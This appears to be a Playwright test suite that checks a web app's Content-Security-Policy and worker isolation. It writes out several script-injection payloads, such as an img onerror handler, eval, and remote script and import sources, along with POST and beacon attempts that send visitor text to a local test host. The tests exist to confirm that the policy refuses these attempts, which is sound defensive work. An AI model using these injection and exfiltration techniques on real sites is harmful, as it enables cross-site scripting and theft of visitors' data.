/** The page's Content-Security-Policy, in the page and in its worker. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Page } from '@playwright/test';
import { open } from './page';

/** A host that would take anything, and counts what it was asked. */
async function stranger(name = 'localhost') {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' });
    response.end('globalThis.ran = true');
  });
  await new Promise<void>((done) => server.listen(0, name, done));
  const address = `http://${name}:${(server.address() as AddressInfo).port}/`;
  return { address, asked, close: () => server.close() };
}

/** Tries to bring a script into the page, in every way that an injected text could. */
const inject = (page: Page, address: string) =>
  page.evaluate(async (source) => {
    const attempts: (() => unknown)[] = [
      () => {
        const script = document.createElement('script');
        script.textContent = 'globalThis.ran = true';
        document.body.append(script);
      },
      () => {
        const script = document.createElement('script');
        script.src = source;
        document.body.append(script);
      },
      () => document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="globalThis.ran = true">'),
      () => document.body.setAttribute('onclick', 'globalThis.ran = true'),
      () => new Worker(source),
      // oxlint-disable-next-line no-eval
      () => void (0, eval)('globalThis.ran = true'),
      () => import(source),
      () => document.body.append(Object.assign(document.createElement('base'), { href: source })),
    ];
    for (const attempt of attempts)
      try {
        // Outside of what the debugger runs, which policies don't bind.
        await new Promise((done) => setTimeout(done));
        await attempt();
      } catch {
        // Refused, as it should be.
      }
    document.body.click();
    await new Promise((done) => setTimeout(done, 300));
    return { ran: 'ran' in globalThis, base: document.baseURI === location.href };
  }, address);

/** Whether the policy lets something out; runs in the page and in its worker. */
const send = async (address: string): Promise<string> => {
  try {
    await fetch(address, { method: 'POST', body: 'a text of the visitor' });
    return 'sent';
  } catch {
    return 'refused';
  }
};

test('an injected script does not run, and nothing leaves the page or its worker', async ({ page }) => {
  const host = await stranger();
  try {
    await open(page);
    const worker = page.workers()[0] ?? (await page.waitForEvent('worker'));
    expect(await inject(page, host.address)).toEqual({ ran: false, base: true });
    expect(await page.evaluate(send, host.address)).toBe('refused');
    expect(await worker.evaluate(send, host.address)).toBe('refused');
    await page.evaluate((address) => navigator.sendBeacon(address, 'a text of the visitor'), host.address);
    expect(host.asked).toEqual([]);
  } finally {
    host.close();
  }
});

test('the Hub that a visitor has chosen may be asked, a host that the address names, and no other', async ({
  page,
}) => {
  const [hub, other] = [await stranger(), await stranger('127.0.0.1')];
  try {
    await page.addInitScript((address) => localStorage.setItem('hub', address), hub.address);
    // A text that names a host opens nothing.
    await open(page, `pins=${encodeURIComponent(other.address)}`);
    const worker = page.workers()[0] ?? (await page.waitForEvent('worker'));
    expect(await worker.evaluate(send, hub.address)).toBe('sent');
    expect(await worker.evaluate(send, other.address)).toBe('refused');
    // A link that is opened on the page loads it anew.
    await Promise.all([
      page.waitForEvent('load'),
      page.evaluate((address) => (location.hash = `#model=${address}folder/&replay=off`), other.address),
    ]);
    const next = page.workers()[0] ?? (await page.waitForEvent('worker'));
    expect(await next.evaluate(send, other.address)).toBe('sent');
  } finally {
    hub.close();
    other.close();
  }
});

test('a sandboxed frame says what it lacks', async ({ page, baseURL }) => {
  await page.setContent(`<iframe sandbox="allow-scripts" src="${baseURL}" width="600" height="300"></iframe>`);
  const frame = page.frameLocator('iframe');
  await expect(frame.getByText('sandboxed frame')).toBeVisible();
  await expect(frame.getByRole('link', { name: 'Open it in its own tab' })).toBeVisible();
});
